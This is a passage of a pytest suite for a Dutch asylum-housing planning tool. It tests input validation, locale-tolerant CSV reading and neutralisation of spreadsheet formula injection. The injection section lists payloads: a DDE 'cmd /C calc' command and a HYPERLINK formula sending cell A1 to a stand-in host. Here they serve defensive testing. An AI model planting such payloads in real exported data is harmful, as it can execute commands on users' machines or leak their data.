        "{max_rent_eur: 700, groups: [starter], max_persons: 1}",
        "{max_rent_eur: 700, groups: [starters], max_persons: 1}",
    )
    return ["demo.yaml, allocation: onbekende groepen in de regels", "statushouder", "starters"]


def case_siting_references_to_missing_columns_and_category(demo):
    _scenario(demo, "      category: station\n", "      category: statoin\n")
    _scenario(demo, "    zone_column: wijk_code", "    zone_column: wijkcode")
    return [
        "pois.gpkg, category: 'station' gebruikt categorie 'statoin'",
        "boundaries.gpkg, wijkcode: verplichte kolom ontbreekt",
    ]


def case_exclusion_of_an_unknown_criterion(demo):
    _scenario(
        demo,
        "      criterion: geluid\n      limit: 0.5",
        "      criterion: geluidd\n      limit: 0.5",
    )
    return [
        "demo.yaml, siting: uitsluitingsregel 'geluidscontour' gebruikt onbekend criterium "
        "'geluidd' (bedoelde u 'geluid'?)"
    ]


def case_must_exclude_an_unknown_site(demo):
    _scenario(demo, "    max_sites: 6", "    max_sites: 6\n    must_exclude: [S999]")
    return [
        "longlist.gpkg, siting.shortlist.must_exclude: locatie 'S999' staat niet in de longlist"
    ]


def case_household_of_an_unknown_group(demo):
    _cell(demo, "households.csv", 0, "group", "statushouder")
    return ["households.csv, huishouden H0001, group: onbekende groep 'statushouder'"]


def case_planning_stock_of_another_municipality_and_group(demo):
    _cell(demo, "planning_stock.csv", 0, ["municipality_code", "group"], ["GM0363", "oekrainers"])
    return [
        "planning_stock.csv, rij 2 (B01), municipality_code: onbekende gemeente 'GM0363'",
        "planning_stock.csv, rij 2 (B01), group: onbekende groep 'oekrainers'",
    ]


def case_planning_task_of_amsterdam(demo):
    _cell(demo, "planning_tasks.csv", 0, "municipality_code", "GM0363")
    return ["planning_tasks.csv, rij 2, municipality_code: onbekende gemeente 'GM0363'"]


def case_bans_of_unknown_household_and_unit(demo):
    _scenario(
        demo,
        "  max_wait_days: 180 ",
        "  bans: [{household_id: H9999, unit_id: U9999}]\n  max_wait_days: 180 ",
    )
    return [
        "allocation.bans[0].household_id: onbekend huishouden 'H9999'",
        "allocation.bans[0].unit_id: woning 'U9999' bestaat niet",
    ]


# --------------------------------------------------------------------------- numbers


def case_unit_beds_of_twenty_digits(demo):
    # overflowed to -9223372036854775808 and was reported as 'less than 1'
    _cell(demo, "units.csv", 0, "beds", "99999999999999999999")
    return ["units.csv, woning U0001, beds: te groot: 99999999999999999999 (meer dan 100.000)"]


def case_unit_beds_1e15(demo):
    _cell(demo, "units.csv", 0, "beds", "1e15")
    return ["units.csv, woning U0001, beds: te groot: 1e15"]


def case_household_of_1e15_persons(demo):
    # was refused for its children not adding up (0 = 1000000000000000 - 1)
    _cell(demo, "households.csv", 0, "persons", "1000000000000000")
    return ["households.csv, huishouden H0001, persons: te groot", "De invoer heeft 1 probleem"]


def case_yes_no_column_holding_two(demo):
    # `unit: yes_no`: a 2 was scored as a yes
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    gdf["zoning_change_needed"] = gdf["zoning_change_needed"].astype(int)  # a 0/1 field
    gdf.loc[1, "zoning_change_needed"] = 2
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return ["longlist.gpkg, id S002 (rij 2), zoning_change_needed: geen ja/nee-waarde: 2"]


def case_fractional_units_and_occupants_in_the_plan(demo):
    _cell(demo, "planning_candidates.csv", 0, "max_units", "2.5")
    _cell(demo, "planning_stock.csv", 0, "occupants", "85.5")
    return [
        "planning_candidates.csv, rij 2 (F01), max_units: '2.5' is geen geheel getal",
        "planning_stock.csv, rij 2 (B01), occupants: '85.5' is geen geheel getal",
    ]


def case_planning_task_in_scientific_notation(demo):
    _cell(demo, "planning_tasks.csv", 0, "task", "1e3")
    return ["planning_tasks.csv, rij 2, task: '1e3' is geen geheel getal"]


def case_provider_capacity_of_half_a_place(demo):
    _cell(demo, "providers.csv", 0, "capacity", "16.5")
    return ["providers.csv, id TK-P0066, capacity: 16.5 is geen geheel getal"]


def case_longlist_costs_with_thousands_separators(demo):
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    gdf["cost_estimate_eur"] = gdf["cost_estimate_eur"].astype(object)
    gdf.loc[1, "cost_estimate_eur"] = "1.250.000,50"
    gdf.loc[2, "cost_estimate_eur"] = "1,250,000"
    _write(demo, gdf, "longlist.gpkg", "longlist")
    return [
        "id S002 (rij 2), cost_estimate_eur: geen getal: '1.250.000,50'",
        "id S003 (rij 3), cost_estimate_eur: geen getal: '1,250,000'",
    ]


def case_scenario_money_as_text_with_a_euro_sign(demo):
    _scenario(demo, "places: 140, fixed_cost: 150000}", "places: 140, fixed_cost: '€ 150.000'}")
    return ["demo.yaml, exchange.capacity[7].fixed_cost: moet een getal zijn", "'€ 150.000'"]


def case_scenario_task_with_a_thousands_point(demo):
    _scenario(demo, "places: 140, fixed_cost: 150000}", "places: 140, fixed_cost: 150.000}")
    return ["exchange.capacity.7.fixed_cost: '150.000' leest YAML als 150", "schrijf 150000"]


def case_scenario_half_a_place_as_target(demo):
    _scenario(demo, "    amount: 600", "    amount: 600.5")
    return ["demo.yaml, siting.target.amount: moet een geheel getal zijn", "600.5"]


def case_scenario_samples_beyond_any_use(demo):
    _scenario(demo, "    samples: 200\n", "    samples: 1000000000000\n")
    return ["demo.yaml, exchange.shapley.samples: moet kleiner dan of gelijk aan 100000 zijn"]


def case_planning_task_of_1e15_persons(demo):
    # filled the memory building the plan: exit 1, 'MemoryError'
    _cell(demo, "planning_tasks.csv", 0, "task", "1000000000000000")
    _cell(demo, "planning_candidates.csv", 0, "max_units", "1000000000000000")
    return [
        "planning_tasks.csv, rij 2, task: te groot: 1000000000000000 (meer dan 1.000.000)",
        "planning_candidates.csv, rij 2 (F01), max_units: te groot",
    ]


def case_exchange_task_of_1e15_places(demo):
    # its unmet cost in cents left 64 bits: the checker found a negative objective (exit 1)
    _scenario(demo, "GM0384: {asielzoekers: 175,", "GM0384: {asielzoekers: 1000000000000000,")
    return [
        "demo.yaml, exchange.tasks.GM0384.asielzoekers: moet kleiner dan of gelijk aan 1000000 zijn"
    ]


def case_exchange_cost_of_1e15_per_place(demo):
    _scenario(
        demo,
        "{municipality: GM0437, type: sociale_huur, places: 15}",
        "{municipality: GM0437, type: sociale_huur, places: 15, cost_per_place: 1.0e+15}",
    )
    return [
        "demo.yaml, exchange.capacity[5].cost_per_place: moet kleiner dan of gelijk aan "
        "1000000000 zijn"
    ]


def case_scenario_unit_footprint_of_a_tenth_of_a_millimetre(demo):
    # no home is 0.1 mm wide; with no spacing the packing would lay out some 25 million
    # footprints per hectare (the run did not end in 90 s)
    _scenario(demo, "    unit_width_m: 6 ", "    unit_width_m: 0.0001 ")
    return ["demo.yaml, siting.capacity.unit_width_m: moet groter dan of gelijk aan 2"]


def case_scenario_persons_per_unit_1e15(demo):
    _scenario(demo, "    persons_per_unit: 2.8", "    persons_per_unit: 1.0e+15")
    return ["demo.yaml, siting.capacity.persons_per_unit: moet kleiner dan of gelijk aan 100"]


CASES = [v for k, v in sorted(globals().items()) if k.startswith("case_")]


@pytest.mark.parametrize("case", CASES, ids=[c.__name__.removeprefix("case_") for c in CASES])
def test_round9_bad_input_exits_2_naming_file_id_field_and_writes_nothing(demo, case) -> None:
    _refused(demo, case(demo))


# --------------------------------------------------------------------------- accepted


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    """The clean demo's scenario and inputs, as read by the input pass."""
    from opvang_opt.io import load

    return load(ROOT / "scenarios" / "demo.yaml")


def _load(demo: Path):
    from opvang_opt.io import load

    return load(demo / "scenarios" / "demo.yaml")


def _same_geometry(a: gpd.GeoDataFrame, b: gpd.GeoDataFrame, tol: float = 0.01) -> None:
    """Every feature within ``tol`` metres of the other's (Hausdorff), in the same order."""
    assert len(a) == len(b)
    dist = shapely.hausdorff_distance(a.geometry.to_numpy(), b.geometry.to_numpy())
    assert float(np.max(dist)) < tol, float(np.max(dist))


def _add_z(demo: Path) -> None:
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    gdf["geometry"] = shapely.force_3d(gdf.geometry.to_numpy(), -1.5)  # NAP -1.5 m
    _write(demo, gdf, "longlist.gpkg", "longlist")


def _add_m(demo: Path) -> None:
    src, tmp = demo / DEMO / "longlist.gpkg", demo / DEMO / "ll_m.gpkg"
    subprocess.run(
        ["ogr2ogr", "-f", "GPKG", str(tmp), str(src), "longlist", "-dim", "XYM"],
        check=True,
        capture_output=True,
    )
    tmp.replace(src)


def _to(crs: int) -> Callable[[Path], None]:
    def f(demo: Path) -> None:
        _write(
            demo, _layer(demo, "longlist.gpkg", "longlist").to_crs(crs), "longlist.gpkg", "longlist"
        )

    return f


@pytest.mark.parametrize(
    "edit",
    [
        _add_z,
        pytest.param(
            _add_m,
            marks=pytest.mark.skipif(
                shutil.which("ogr2ogr") is None, reason="ogr2ogr (gdal-bin) absent"
            ),
        ),
        _to(3857),
        _to(25831),
        _to(4258),
    ],
    ids=["z", "m", "web_mercator", "utm31", "etrs89"],
)
def test_longlist_with_z_m_or_another_declared_crs_is_read_as_the_clean_one(demo, clean, edit):
    """Heights, measures and another CRS that is declared are no defects: the sites are the
    clean demo's in RD New, to the centimetre (a reprojection round trip; a height is kept
    and every measure of area and distance is taken in the plane)."""
    edit(demo)
    _, inputs = _load(demo)
    got = inputs.layers["longlist"]
    _same_geometry(got, clean[1].layers["longlist"])
    pd.testing.assert_series_equal(got["site_id"], clean[1].layers["longlist"]["site_id"])


def test_nature_areas_in_declared_wgs84_are_the_clean_ones(demo, clean) -> None:
    _write(
        demo, _layer(demo, "constraints.gpkg", "nature").to_crs(4326), "constraints.gpkg", "nature"
    )
    _, inputs = _load(demo)
    _same_geometry(inputs.layers["nature"], clean[1].layers["nature"])


def _dutch(text: str) -> str:
    """A CSV as Excel saves it in a Dutch locale: semicolons, decimal commas, CRLF."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in csv.reader(io.StringIO(text)):
        writer.writerow([c.replace(".", ",") if _is_decimal(c) else c for c in row])
    return out.getvalue()


def _is_decimal(cell: str) -> bool:
    head, dot, tail = cell.partition(".")
    return bool(dot) and head.lstrip("-").isdigit() and tail.isdigit()


def _allocation_tables(inputs) -> dict[str, pd.DataFrame]:
    t = inputs.allocation_data.tables
    return {"households": t.households, "units": t.units, "sites": t.sites}


def _same_allocation(inputs, clean_inputs) -> None:
    got, want = _allocation_tables(inputs), _allocation_tables(clean_inputs)
    for name in want:
        pd.testing.assert_frame_equal(
            got[name].reset_index(drop=True), want[name].reset_index(drop=True), check_dtype=False
        )


def test_declared_dutch_export_of_the_allocation_tables_reads_as_the_clean_csv(demo, clean):
    """Semicolons, decimal commas ('725,15'), a thousands point ('1.725,15' is not in the
    demo, so a rent is written so and compared), Windows-1252 with an accented name."""
    for name in ("households.csv", "units.csv", "unit_sites.csv"):
        (demo / DEMO / name).write_bytes(_dutch(_text(demo, name)).encode("cp1252"))
    _declare_alloc(demo, 'separator: ";"', 'decimal: ","', "encoding: cp1252")
    _, inputs = _load(demo)
    _same_allocation(inputs, clean[1])


def test_thousands_point_in_a_declared_dutch_rent(demo) -> None:
    for name in ("households.csv", "units.csv", "unit_sites.csv"):
        (demo / DEMO / name).write_bytes(_dutch(_text(demo, name)).encode("cp1252"))
    path = demo / DEMO / "units.csv"
    path.write_bytes(path.read_bytes().replace(b"725,15", b'"1.725,15"', 1))
    _declare_alloc(demo, 'separator: ";"', 'decimal: ","', "encoding: cp1252")
    _, inputs = _load(demo)
    assert inputs.allocation_data.tables.units["rent_eur"].iloc[0] == 1725.15


def test_cr_line_endings_and_excels_sep_line_read_as_the_clean_csv(demo, clean) -> None:
    """Old Mac line endings (CR only) were 'new-line character seen in unquoted field'
    without a line; Excel's 'sep=;' line was 'declare separator ;' and then a header
    'sep=;'. Both say what the file is: read as the clean demo."""
    path = demo / DEMO / "unit_sites.csv"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r"))
    path = demo / DEMO / "units.csv"
    path.write_text("sep=;\n" + _text(demo, "units.csv").replace(",", ";"), encoding="utf-8")
    _, inputs = _load(demo)
    _same_allocation(inputs, clean[1])


@pytest.mark.parametrize("text_numbers", [False, True], ids=["typed", "numbers_as_text"])
def test_workbook_of_households_and_units_reads_as_the_clean_csv(demo, clean, text_numbers):
    """An .xlsx with numbers as numbers (or stored as text) and dates as date cells is the
    same table."""
    _workbook(demo, "households.csv", text_numbers=text_numbers)
    _workbook(demo, "units.csv", text_numbers=text_numbers)
    _scenario(
        demo, "households: ../data/demo/households.csv", "households: ../data/demo/households.xlsx"
    )
    _scenario(demo, "units: ../data/demo/units.csv", "units: ../data/demo/units.xlsx")
    _, inputs = _load(demo)
    _same_allocation(inputs, clean[1])


def test_byte_order_mark_crlf_and_trailing_separators_read_as_the_clean_csv(demo, clean):
    """Excel's 'CSV UTF-8' (a byte-order mark, CRLF) and a Dutch export with a separator at
    the end of every line (declared) are the clean tables."""
    path = demo / DEMO / "providers.csv"
    path.write_bytes(b"\xef\xbb\xbf" + _text(demo, "providers.csv").replace("\n", "\r\n").encode())
    path = demo / DEMO / "planning_tasks.csv"
    path.write_text(_text(demo, "planning_tasks.csv").replace(",", ";").replace("\n", ";\r\n"))
    _scenario(
        demo,
        "  tasks: {path: ../data/demo/planning_tasks.csv}",
        '  tasks: {path: ../data/demo/planning_tasks.csv, separator: ";"}',
    )
    _, inputs = _load(demo)
    pd.testing.assert_frame_equal(inputs.services.providers, clean[1].services.providers)
    pd.testing.assert_frame_equal(inputs.planning.tasks, clean[1].planning.tasks)


def test_iso_dates_with_a_time_zone_are_the_dates_written(demo) -> None:
    """'2026-01-16T00:00:00+01:00' is 16 January (the UTC day before is never taken);
    'Z' and a time of day are dropped the same way."""
    _cell(demo, "households.csv", 0, "arrival_date", "2026-01-16T00:00:00+01:00")
    _cell(demo, "households.csv", 1, "arrival_date", "2026-12-07T23:30:00Z")
    _cell(demo, "households.csv", 2, "arrival_date", "2026-10-29 14:30")
    _, inputs = _load(demo)
    got = inputs.allocation_data.tables.households["arrival_date"].iloc[:3].dt.date.tolist()
    assert got == [dt.date(2026, 1, 16), dt.date(2026, 12, 7), dt.date(2026, 10, 29)]


def test_declared_month_first_permit_end_is_read_month_first(demo) -> None:
    _cell(demo, "planning_stock.csv", 0, "permit_end", "12/31/2026")
    _scenario(
        demo,
        "  stock: {path: ../data/demo/planning_stock.csv}",
        "  stock: {path: ../data/demo/planning_stock.csv, date_formats: {permit_end: '%m/%d/%Y'}}",
    )
    _, inputs = _load(demo)
    assert inputs.planning.stock["permit_end"].iloc[0] == dt.date(2026, 12, 31)


def test_yaml_anchors_and_merge_keys_are_fine(demo, clean) -> None:
    _scenario(
        demo,
        "      value: {type: linear, lower: 0, upper: 3000, direction: lower_is_better}",
        "      value: &lin {type: linear, lower: 0, upper: 3000, direction: lower_is_better}",
    )
    _scenario(
        demo,
        "  solver: {backend: highs, time_limit_s: 20}",
        "  solver: {<<: {backend: highs, time_limit_s: 10}, time_limit_s: 20}",
    )
    scenario, _ = _load(demo)
    assert scenario.planning.solver == clean[0].planning.solver
    assert scenario.siting.criteria == clean[0].siting.criteria


def test_places_of_a_many_digit_persons_per_unit_do_not_overflow() -> None:
    """``persons_per_unit: 3.0000000000000013`` is 30000000000000013/10**16: times 400
    units it left 64 bits and gave -645 places. By hand: 400 x 3.0000000000000013 =
    1200.0000000000005, floor 1200; 5000 x = 15000.0000000000065, floor 15000; and
    2.123456789012347 x 5000 = 10617.283945061735, floor 10617."""
    assert floor_times(np.array([85, 400, 1000, 5000]), 3.0000000000000013).tolist() == [
        255,
        1200,
        3000,
        15000,
    ]
    assert floor_times(np.array([5000]), 2.123456789012347).tolist() == [10617]
    assert floor_times(np.array([85]), 2.8).tolist() == [238]


# --------------------------------------------------------------------------- formula injection

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _inject(demo: Path) -> None:
    """A payload in every text field of every input that reaches a spreadsheet."""
    n = len(PAYLOADS)
    gdf = _layer(demo, "longlist.gpkg", "longlist")
    for k, col in enumerate(("name", "owner", "notes", "zoning")):
        gdf[col] = [PAYLOADS[(i + k) % n] + f" L{i}" for i in range(len(gdf))]
    # ids too: '\tS005' was 'S005' in one stage and '\tS005' in another (exit 1)
    gdf["site_id"] = [p[0] + s for p, s in zip(PAYLOADS * 8, gdf["site_id"], strict=False)]
    _write(demo, gdf, "longlist.gpkg", "longlist")
    hh = pd.read_csv(demo / DEMO / "households.csv", dtype=str, keep_default_na=False)
    hh["household_id"] = [p[0] + h for p, h in zip(PAYLOADS * 60, hh["household_id"], strict=False)]
    hh.to_csv(demo / DEMO / "households.csv", index=False, quoting=csv.QUOTE_ALL)
    for file, layer in (
        ("constraints.gpkg", "nature"),
        ("constraints.gpkg", "noise_contour"),
        ("constraints.gpkg", "hv_line"),
        ("boundaries.gpkg", "gemeenten"),
        ("boundaries.gpkg", "wijken"),
        ("boundaries.gpkg", "buurten"),
        ("pois.gpkg", "pois"),
    ):
        gdf = _layer(demo, file, layer)
        gdf["name"] = [PAYLOADS[i % n] + f" {layer}{i}" for i in range(len(gdf))]
        _write(demo, gdf, file, layer)
    for file in (
        "unit_sites.csv",
        "planning_candidates.csv",
        "planning_stock.csv",
        "providers.csv",
        "facilities.csv",
    ):
        df = pd.read_csv(demo / DEMO / file, dtype=str, keep_default_na=False)
        df["name"] = [PAYLOADS[i % n] + f" n{i}" for i in range(len(df))]
        df.to_csv(demo / DEMO / file, index=False, quoting=csv.QUOTE_ALL)  # a CR quoted
    for old, new in (
        ("      label: Afstand tot station", "      label: '=HYPERLINK(\"http://x.invalid\")'"),
        ("      label: Natuurgebied", "      label: '@SUM(1+1) natuur'"),
        ('label: "Asielzoekers (Spreidingswet)"', 'label: "+cmd groep"'),
        (
            "{code: GM0384, name: Diemen, population: 31000}",
            "{code: GM0384, name: '-1+Diemen', population: 31000}",
        ),
        ("    - {code: GM0384, name: Diemen}", "    - {code: GM0384, name: '=Diemen()'}"),
        ("    - name: Spreidingswet-prikkel", "    - name: '=prikkel()'"),
        ('      label: "Flexwoningen"', '      label: "=flex()"'),
    ):
        _scenario(demo, old, new)


@pytest.fixture(scope="module")
def injected(tmp_path_factory) -> Path:
    demo = tmp_path_factory.mktemp("round9_inject")
    shutil.copytree(ROOT / "scenarios", demo / "scenarios")
    shutil.copytree(ROOT / "data" / "demo", demo / "data" / "demo")
    _inject(demo)
    out = demo / "results"
    res = CliRunner().invoke(
        app,
        ["run", str(demo / "scenarios" / "demo.yaml"), "--out", str(out), "--profile", "analyst"],
    )
    assert res.exit_code in (0, 3), res.output
    return out


def test_no_input_text_is_a_formula_in_the_workbook(injected) -> None:
    wb = openpyxl.load_workbook(injected / "results.xlsx")
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert any(t.startswith("=HYPERLINK") for t in texts)  # kept, as text
    with zipfile.ZipFile(injected / "results.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_no_csv_cell_starts_a_formula_when_a_spreadsheet_reads_it(injected) -> None:
    """Every CSV output read as a spreadsheet program splits it (a CR ends a row when it is
    not quoted): no cell starts with a formula character, except numbers."""
    found = []
    for path in sorted(injected.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for line, row in enumerate(csv.reader(fh), start=1):
                for cell in row:
                    if not cell.startswith(FORMULA_START):
                        continue
                    try:
                        float(cell)
                    except ValueError:
                        found.append((path.name, line, cell[:40]))
    assert not found, found[:10]
    plan = (injected / "plan.csv").read_text(encoding="utf-8")
    assert "'\n=1+1" in plan  # the CR payload: a quoted line break after the apostrophe


def test_exchange_capacity_of_1e15_places_is_the_same_as_any_unbinding_one() -> None:
    """A capacity of 10**15 places (a user's 'no limit') is legitimate input: the optimum is
    the one with 1,000 places, more than sociale huur can be used for (the statushouders'
    46 + 21 + 46 = 113 places, and through substitution at most 10 % of the 455 asylum
    places), so neither binds; the checker agrees."""
    from opvang_opt.exchange import load_demo_config, run_exchange

    cfg = load_demo_config()
    objective = {}
    for places in (1e15, 1000):
        capacity = [
            c.model_copy(update={"places": places})
            if (c.municipality, c.type) == ("GM0384", "sociale_huur")
            else c
            for c in cfg.capacity
        ]
        run = run_exchange(cfg.model_copy(update={"capacity": capacity}))
        assert run.status.value == "optimal" and run.check.is_ok
        objective[places] = run.result.objective
    assert objective[1e15] == pytest.approx(objective[1000], rel=1e-9)
